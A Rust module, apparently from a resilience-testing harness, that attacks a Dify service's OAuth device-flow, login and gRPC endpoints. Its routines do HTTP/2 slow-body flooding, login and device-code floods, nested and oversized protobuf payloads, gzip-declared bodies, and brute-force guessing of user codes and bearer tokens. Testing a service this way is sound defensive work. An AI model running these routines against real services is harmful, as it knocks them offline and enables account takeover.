//! Attacks with requests and their bodies, most of them by strangers.

use std::time::Duration;

use bytes::Bytes;
use serde_json::json;
use tokio::time;

use crate::{
    account::client_from,
    apps::INPUTS,
    attacker::Attacker,
    http2::{self, Post},
};

const TOKEN: &str = "/openapi/v1/oauth/device/token";
const GRPC: &str = "application/grpc";
const LOOKUP: &str = "/openapi/v1/oauth/device/lookup";

pub async fn large_unfinished_bodies(attacker: Attacker) {
    let post = Post::unfinished(TOKEN, Bytes::from(vec![b' '; 60_000]));
    for _ in 0..70 {
        http2::open_streams(&attacker, attacker.address, 100, &post).await;
    }
}

/// The bodies are within the limit of the route.
pub async fn small_unfinished_bodies(attacker: Attacker) {
    let post = Post::unfinished(TOKEN, Bytes::from(vec![b' '; 4_000]));
    for _ in 0..60 {
        http2::open_streams(&attacker, attacker.address, 100, &post).await;
    }
}

pub async fn distributed_bodies(attacker: Attacker) {
    let post = Post::unfinished(TOKEN, Bytes::from(vec![b' '; 4_000]));
    for number in 0..64 {
        for _ in 0..4 {
            http2::open_streams(&attacker, attacker.other_address(number), 100, &post).await;
        }
    }
}

pub async fn unfinished_runs(attacker: Attacker) {
    let post = Post::unfinished(&attacker.account.run_path(INPUTS), Bytes::from(vec![b' '; 1_000_000]));
    let post = post.with("authorization", format!("Bearer {}", attacker.account.token));
    for _ in 0..20 {
        http2::open_streams(&attacker, attacker.address, 10, &post).await;
    }
}

pub async fn wrong_logins(attacker: Attacker) {
    for number in 0..=255 {
        // Each address may be wrong a hundred times.
        let client = client_from(attacker.other_address(number % 4));
        let body = json!({"email": format!("stranger{number}@example.com"), "password": "d3Jvbmcgb25l"});
        let request = client.post(format!("{}/console/api/login", attacker.account.url)).json(&body);
        let attacker = attacker.clone();
        attacker.clone().spawn(async move {
            while let Some(again) = request.try_clone() {
                attacker.send(again).await;
                time::sleep(Duration::from_millis(500)).await;
            }
        });
    }
}

/// Messages of `RunApp` with values that are large when they are decoded, and oversized ones for strangers.
pub async fn grpc_messages(attacker: Attacker) {
    let field = |number: u8, content: &[u8]| {
        let mut message = vec![number << 3 | 2];
        let mut length = content.len();
        while length >= 0x80 {
            message.push(u8::try_from(length & 0x7f).unwrap() | 0x80);
            length >>= 7;
        }
        message.push(u8::try_from(length).unwrap());
        message.extend_from_slice(content);
        message
    };
    let framed = |message: &[u8]| {
        Bytes::from([&[0], &u32::try_from(message.len()).unwrap().to_be_bytes()[..], message].concat())
    };
    // A `Struct` whose fields have empty names and no values: two bytes for each entry.
    let wide = field(4, &field(1, &[]).repeat(400_000));
    // A list in a list in a list, …
    let deep = field(4, &(0..10_000).fold(Vec::new(), |inner, _| field(6, &field(1, &inner))));
    let run = "/dify.openapi.v1.AppService/RunApp";
    let code = "/dify.openapi.v1.DeviceFlowService/CreateDeviceCode";
    for (path, message) in [(run, wide), (run, deep), (code, vec![0xff; 4_000]), (code, field(1, &vec![b'x'; 900_000]))]
    {
        let post = Post::complete(path, GRPC, framed(&message)).with("te", "trailers");
        let post = post.with("authorization", format!("Bearer {}", attacker.account.token));
        for _ in 0..6 {
            http2::open_streams(&attacker, attacker.address, 20, &post).await;
        }
    }
}

pub async fn cookies_and_forms(attacker: Attacker) {
    let cookies = (0..1_500).map(|number| format!("c{number}={}", "v".repeat(12))).collect::<Vec<_>>().join("; ");
    let form = "&a=".repeat(1_300);
    for path in ["/signin", "/device", "/device/sessions", TOKEN] {
        let form = Bytes::from(form.clone());
        let post = Post::complete(path, "application/x-www-form-urlencoded", form).with("cookie", cookies.clone());
        for _ in 0..8 {
            http2::open_streams(&attacker, attacker.address, 60, &post).await;
        }
    }
}

/// A megabyte of zeros takes a kilobyte.
pub async fn compressed_bodies(attacker: Attacker) {
    let body = Bytes::from([&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3][..], &[0; 2_000]].concat());
    let json = Post::complete(TOKEN, "application/json", body.clone()).with("content-encoding", "gzip");
    let framed = Bytes::from([&[1], &2_010_u32.to_be_bytes()[..], &body].concat());
    let path = "/dify.openapi.v1.DeviceFlowService/CreateDeviceCode";
    let grpc = Post::complete(path, GRPC, framed).with("te", "trailers").with("grpc-encoding", "gzip");
    for _ in 0..10 {
        http2::open_streams(&attacker, attacker.address, 50, &json).await;
        http2::open_streams(&attacker, attacker.address, 50, &grpc).await;
    }
}

pub async fn guesses(attacker: Attacker) {
    let url = &attacker.account.url;
    for number in 0..64 {
        let client = client_from(attacker.other_address(number));
        let (attacker, url) = (attacker.clone(), url.clone());
        attacker.clone().spawn(async move {
            for guess in 0.. {
                let code = format!("BCDF-{:04}", guess % 10_000).replace(['0', '1', '2'], "X");
                let lookup = client.get(format!("{url}{LOOKUP}")).query(&[("user_code", code)]);
                attacker.send(lookup).await;
                let token = format!("dfoa_{number:020}{guess:023}");
                attacker.send(client.get(format!("{url}/openapi/v1/account")).bearer_auth(token)).await;
                time::sleep(Duration::from_millis(50)).await;
            }
        });
    }
}

pub async fn device_codes(attacker: Attacker) {
    for number in 0..8 {
        let client = client_from(attacker.other_address(number));
        let body = json!({"client_id": "difyctl", "device_label": "x".repeat(60)});
        let request = client.post(format!("{}/openapi/v1/oauth/device/code", attacker.account.url)).json(&body);
        for _ in 0..4 {
            let (attacker, request) = (attacker.clone(), request.try_clone().unwrap());
            attacker.clone().spawn(async move {
                for _ in 0..125 {
                    attacker.send(request.try_clone().unwrap()).await;
                }
            });
        }
    }
}
